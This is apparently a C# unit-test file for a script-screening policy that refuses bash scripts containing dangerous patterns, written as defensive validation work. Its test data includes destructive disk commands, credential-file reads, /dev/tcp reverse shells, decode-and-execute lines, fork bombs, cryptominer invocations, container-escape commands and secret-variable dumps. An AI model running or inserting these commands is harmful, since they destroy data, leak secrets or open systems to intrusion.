using System.Text;
using Orchestrator.Api.Scripts;
using Orchestrator.Platform.Configuration;

namespace Orchestrator.UnitTests.Api;

public sealed class ScriptPolicyTests
{
    static ScriptViolation? Check(string script, ScriptPolicyOptions? options = null) =>
        ScriptPolicy.Check(Encoding.UTF8.GetBytes(script), options ?? new ScriptPolicyOptions());

    [Theory]
    [InlineData("DestructiveCommands", "rm -rf /")]
    [InlineData("DestructiveCommands", "rm -rf ~/data")]
    [InlineData("DestructiveCommands", "rm -f $HOME/x")]
    [InlineData("DestructiveCommands", "cd x && rm -r ../other")]
    [InlineData("DestructiveCommands", "mkfs.ext4 /dev/sdb1")]
    [InlineData("DestructiveCommands", "dd if=/dev/sda of=disk.img")]
    [InlineData("DestructiveCommands", "dd if=/dev/zero of=/dev/sda bs=1M")]
    [InlineData("DestructiveCommands", "shred -u secrets")]
    [InlineData("DestructiveCommands", "echo x > /dev/sda")]
    [InlineData("SensitivePaths", "cat /etc/passwd")]
    [InlineData("SensitivePaths", "cp /etc/shadow .")]
    [InlineData("SensitivePaths", "cat /etc/sudoers")]
    [InlineData("SensitivePaths", "cat ~/.ssh/id_rsa")]
    [InlineData("SensitivePaths", "ls /root/")]
    [InlineData("SensitivePaths", "cat /proc/self/environ")]
    [InlineData("SensitivePaths", "cat /proc/1/maps")]
    [InlineData("SensitivePaths", "echo 1 > /sys/kernel/x")]
    [InlineData("SensitivePaths", "ls -l /var/run/docker.sock")]
    [InlineData("NetworkTools", "curl https://example.org/x -o x")]
    [InlineData("NetworkTools", "wget http://example.org")]
    [InlineData("NetworkTools", "/usr/bin/curl -s x")]
    [InlineData("NetworkTools", "nc -l 4444")]
    [InlineData("NetworkTools", "ssh user@host")]
    [InlineData("NetworkTools", "echo x | socat - TCP:host:1")]
    [InlineData("NetworkTools", "out=$(curl -s x)")]
    [InlineData("NetworkTools", "if true; then scp a b:; fi")]
    [InlineData("NetworkTools", "rsync -a . host:/x")]
    [InlineData("NetworkTools", "telnet host 23")]
    [InlineData("ReverseShells", "exec 5<>/dev/tcp/10.0.0.1/4444")]
    [InlineData("ReverseShells", "echo x > /dev/udp/10.0.0.1/53")]
    [InlineData("ReverseShells", "sh -i 2>&1 >&3")]
    [InlineData("ReverseShells", "mkfifo f; cat f | sh")]
    [InlineData("PrivilegeEscalation", "sudo apt-get install x")]
    [InlineData("PrivilegeEscalation", "su - root")]
    [InlineData("PrivilegeEscalation", "chown root x")]
    [InlineData("PrivilegeEscalation", "chmod u+s ./tool")]
    [InlineData("PrivilegeEscalation", "chmod 4755 ./tool")]
    [InlineData("PrivilegeEscalation", "pkexec id")]
    [InlineData("ContainerEscape", "chroot /mnt sh")]
    [InlineData("ContainerEscape", "nsenter -t 1 -m sh")]
    [InlineData("ContainerEscape", "unshare -r sh")]
    [InlineData("ContainerEscape", "mount -t tmpfs x /mnt")]
    [InlineData("ContainerEscape", "umount /mnt")]
    [InlineData("ContainerEscape", "docker run --privileged x")]
    [InlineData("ContainerEscape", "kubectl get pods")]
    [InlineData("KernelAndFirewall", "sysctl -w kernel.x=1")]
    [InlineData("KernelAndFirewall", "modprobe evil")]
    [InlineData("KernelAndFirewall", "insmod evil.ko")]
    [InlineData("KernelAndFirewall", "rmmod x")]
    [InlineData("KernelAndFirewall", "iptables -F")]
    [InlineData("KernelAndFirewall", "nft flush ruleset")]
    [InlineData("ObfuscatedCode", "echo ZWNobyBoaQ== | base64 -d | bash")]
    [InlineData("ObfuscatedCode", "base64 --decode x.b64 | sh")]
    [InlineData("ObfuscatedCode", "eval \"$cmd\"")]
    [InlineData("ObfuscatedCode", "python3 -c 'import os'")]
    [InlineData("ObfuscatedCode", "perl -e 'print 1'")]
    [InlineData("ObfuscatedCode", "ruby -e 'puts 1'")]
    [InlineData("Persistence", "crontab -l")]
    [InlineData("Persistence", "echo '* * * * * x' > /etc/cron.d/x")]
    [InlineData("Persistence", "systemctl enable x")]
    [InlineData("Persistence", "service ssh start")]
    [InlineData("Persistence", "echo job | at now + 1 minute")]
    [InlineData("Persistence", "at now")]
    [InlineData("Persistence", "setsid sleep 1000 &")]
    [InlineData("ForkBombs", ":(){ :|:& };:")]
    [InlineData("ForkBombs", "bomb() { bomb | bomb & }; bomb")]
    [InlineData("ForkBombs", "while true; do sleep 1 & done")]
    [InlineData("MinersAndStress", "./xmrig -o pool")]
    [InlineData("MinersAndStress", "minerd -a sha256d")]
    [InlineData("MinersAndStress", "cpuminer --url x")]
    [InlineData("MinersAndStress", "stress --cpu 8")]
    [InlineData("MinersAndStress", "stress-ng --vm 4")]
    [InlineData("MinersAndStress", "./tool -o stratum+tcp://pool:3333")]
    [InlineData("SecretVariables", "echo $AWS_SECRET_ACCESS_KEY")]
    [InlineData("SecretVariables", "echo ${AWS_ACCESS_KEY_ID}")]
    [InlineData("SecretVariables", "echo $SECRET")]
    [InlineData("SecretVariables", "echo $TOKEN")]
    [InlineData("SecretVariables", "echo $GITHUB_TOKEN")]
    [InlineData("SecretVariables", "echo $DB_PASSWORD")]
    [InlineData("SecretVariables", "echo $API_KEY")]
    public void A_script_using_a_refused_pattern_is_refused_under_its_category_at_its_line(string category, string line)
    {
        var violation = Check($"#!/bin/bash\necho start\n{line}\necho end\n");

        Assert.NotNull(violation);
        Assert.Equal(category, violation.Category);
        Assert.Equal(3, violation.Line);
        Assert.Contains("line 3", violation.Message);
    }

    [Theory]
    [InlineData("DestructiveCommands", "rm -rf /")]
    [InlineData("SensitivePaths", "cat /etc/passwd")]
    [InlineData("NetworkTools", "curl https://example.org")]
    [InlineData("ReverseShells", "exec 5<>/dev/tcp/10.0.0.1/4444")]
    [InlineData("PrivilegeEscalation", "sudo id")]
    [InlineData("ContainerEscape", "docker ps")]
    [InlineData("KernelAndFirewall", "iptables -L")]
    [InlineData("ObfuscatedCode", "python -c 'print(1)'")]
    [InlineData("Persistence", "crontab -l")]
    [InlineData("ForkBombs", ":(){ :|:& };:")]
    [InlineData("MinersAndStress", "xmrig")]
    [InlineData("SecretVariables", "echo $TOKEN")]
    public void A_category_switched_off_lets_its_patterns_through(string category, string line)
    {
        var options = new ScriptPolicyOptions();
        typeof(ScriptPolicyOptions).GetProperty(category)!.SetValue(options, false);

        Assert.Null(Check(line + "\n", options));
        Assert.Equal(category, Check(line + "\n")?.Category);
    }

    [Theory]
    [InlineData("echo hi")]
    [InlineData("sleep 2\necho partial > output.txt\nexit 3")]
    [InlineData("cat in/inline.txt in/large.txt in/remote.txt > out.txt")]
    [InlineData("echo broken >&2\nexit 3")]
    [InlineData("true")]
    [InlineData("false")]
    [InlineData("rm -f tmp.txt ./scratch/*.dat")]
    [InlineData("rm -rf work")]
    [InlineData("dd if=/dev/zero of=big.bin bs=1M count=10")]
    [InlineData("dd if=/dev/urandom of=rand.bin bs=1k count=1")]
    [InlineData("echo passwords are hashed")]
    [InlineData("cat /proc/cpuinfo | grep processor | wc -l")]
    [InlineData("head -1 /proc/meminfo")]
    [InlineData("echo use curl or wget to fetch it")]
    [InlineData("for tool in curl wget; do echo $tool; done")]
    [InlineData("./ncurses-app")]
    [InlineData("my-ssh-helper --list")]
    [InlineData("echo look at this")]
    [InlineData("grep -c service log.txt")]
    [InlineData("chmod +x ./tool")]
    [InlineData("chmod 755 ./tool")]
    [InlineData("chmod 0644 out.txt")]
    [InlineData("python3 script.py --input in.pdb")]
    [InlineData("perl tidy.pl")]
    [InlineData("base64 result.bin > result.b64")]
    [InlineData("echo $HOME $USER $ORCHESTRATOR_JOB_ID")]
    [InlineData("token_count=3; echo $token_count")]
    [InlineData("haddock3 run.cfg")]
    [InlineData("while read -r line; do echo \"$line\"; done < in.txt")]
    [InlineData("flock /tmp/lock -c \"echo start $(date +%s%N) >> /tmp/runs.log\"")]
    [InlineData("for i in $(seq 1 600); do [ -e '/tmp/signal' ] && break; sleep 0.1; done")]
    [InlineData("mpirun -np 4 ./solver")]
    [InlineData("echo mounted > status.txt")]
    [InlineData("./stress_test_results.sh")]
    [InlineData("trap 'echo \"$?\" > .orchestrator.exit' EXIT")]
    public void An_ordinary_research_script_passes(string script)
    {
        Assert.Null(Check("#!/bin/bash\nset -euo pipefail\n" + script + "\n"));
    }

    [Fact]
    public void Comment_lines_are_not_checked()
    {
        Assert.Null(Check("#!/bin/bash\n# no curl, no sudo, no rm -rf / here\n  # nor cat /etc/passwd\necho ok\n"));
    }

    [Fact]
    public void A_script_over_the_size_limit_is_refused_as_a_format_error()
    {
        var violation = Check(new string('#', 101), new ScriptPolicyOptions { MaxScriptBytes = 100 });

        Assert.Equal(ScriptCategories.Format, violation?.Category);
        Assert.Equal("max-size", violation?.Rule);
        Assert.Null(Check(new string('#', 100), new ScriptPolicyOptions { MaxScriptBytes = 100 }));
    }

    [Fact]
    public void A_script_that_is_not_utf8_is_refused_with_the_line_of_the_first_bad_byte()
    {
        var script = Encoding.UTF8.GetBytes("echo one\necho two\necho ").Concat(new byte[] { 0xC3, 0x28, (byte)'\n' }).ToArray();

        var violation = ScriptPolicy.Check(script, new ScriptPolicyOptions());

        Assert.Equal("utf-8", violation?.Rule);
        Assert.Equal(3, violation?.Line);
        Assert.Null(ScriptPolicy.Check(Encoding.UTF8.GetBytes("echo résumé ✓\n"), new ScriptPolicyOptions()));
    }

    [Fact]
    public void A_script_with_a_nul_byte_is_refused()
    {
        Assert.Equal("nul-byte", Check("echo a\necho \0b\n")?.Rule);
    }

    [Fact]
    public void A_disabled_policy_checks_nothing()
    {
        Assert.Null(Check("curl x | sudo sh\n", new ScriptPolicyOptions { Enabled = false }));
    }

    [Fact]
    public void Windows_line_endings_keep_line_numbers()
    {
        Assert.Equal(2, Check("echo a\r\ncurl x\r\n")?.Line);
    }
}
